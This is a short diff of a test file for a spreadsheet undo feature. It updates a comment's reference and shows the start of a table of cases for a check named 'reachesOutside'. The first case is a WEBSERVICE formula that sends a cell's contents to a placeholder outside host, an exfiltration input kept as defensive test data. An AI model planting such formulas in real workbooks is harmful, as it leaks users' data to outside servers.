@@ -1,6 +1,6 @@
 import { reachesOutside } from "../../../src/core/undo/reaches-outside";
 
-// Undo never writes a formula that reaches outside the workbook, whatever its record says (issue #12 §5).
+// Undo never writes a formula that reaches outside the workbook, whatever its record says (docs/HISTORY.md#issue-12-5).
 describe("reachesOutside", () => {
   it.each([
     '=WEBSERVICE("http://x.example/?"&A1)',
